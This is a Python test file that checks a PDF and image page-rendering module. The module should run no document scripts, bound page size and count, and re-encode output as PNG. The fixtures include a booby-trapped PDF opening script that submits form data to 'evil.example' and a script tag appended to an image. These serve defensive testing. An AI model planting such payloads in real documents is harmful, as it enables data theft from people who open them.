"""Documents drawn as page images (issue 13 §3): PDFium runs no document script, the work per page is bounded, and
what comes out is a PNG encoded from pixels."""

from __future__ import annotations

import io

import pypdf
import pytest
from PIL import Image
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from pypdfium2.version import PDFIUM_INFO

from sopan.core import page_images
from sopan.vendors.tests import factories


def _pdf(*, pages: int = 1, width: float = 595, height: float = 842, javascript: str = "") -> bytes:
    writer = pypdf.PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=width, height=height)
    if javascript:  # an /OpenAction script, as a booby-trapped upload would carry
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(javascript)}
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def _image(png: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(png))
    assert image.format == "PNG"
    image.load()
    return image


def test_the_pdfium_build_has_no_javascript_engine_and_no_xfa():
    # Scripts in a PDF run only through V8 inside PDFium's form environment; this build has neither V8 nor XFA,
    # and page_images never initialises forms. A change of build that brings V8 must be looked at again.
    assert "V8" not in PDFIUM_INFO.flags and "XFA" not in PDFIUM_INFO.flags


def test_a_pdf_with_an_opening_script_is_drawn_as_pixels(monkeypatch):
    import pypdfium2

    content = _pdf(javascript="app.alert('pwned'); this.submitForm('https://evil.example/');")
    assert b"/OpenAction" in content and b"/JavaScript" in content
    monkeypatch.setattr(
        pypdfium2.PdfDocument, "init_forms", lambda *a, **k: pytest.fail("forms (and their scripts) initialised")
    )
    assert page_images.page_count(content, "application/pdf") == 1
    png = page_images.page_png(content, "application/pdf", 1)
    assert b"pwned" not in png and _image(png).size == (1190, 1684)  # A4 at 144 dpi


def test_a_huge_page_is_drawn_within_the_bounds():
    content = _pdf(width=14400, height=14400)  # 5 m × 5 m, the largest PDF page
    image = _image(page_images.page_png(content, "application/pdf", 1))
    assert max(image.size) <= page_images.MAX_SIDE
    assert image.width * image.height <= page_images.MAX_PIXELS


def test_pages_beyond_the_limit_are_not_offered():
    content = _pdf(pages=page_images.MAX_PAGES + 3)
    assert page_images.page_count(content, "application/pdf") == page_images.MAX_PAGES + 3
    _image(page_images.page_png(content, "application/pdf", page_images.MAX_PAGES))
    for number in (0, page_images.MAX_PAGES + 1, page_images.MAX_PAGES + 3):
        with pytest.raises(IndexError):
            page_images.page_png(content, "application/pdf", number)


def test_an_image_is_decoded_and_encoded_anew_and_has_one_page():
    content = factories.png_bytes() + b"<script>alert(1)</script>"
    png = page_images.page_png(content, "image/png", 1)
    assert b"<script>" not in png
    _image(png)
    assert page_images.page_count(content, "image/png") == 1
    with pytest.raises(IndexError):
        page_images.page_png(content, "image/png", 2)


def test_a_damaged_file_is_unreadable_not_a_crash():
    for content, content_type in ((b"%PDF-1.7 broken", "application/pdf"), (b"\x89PNG broken", "image/png")):
        with pytest.raises(page_images.Unreadable):
            page_images.page_png(content, content_type, 1)
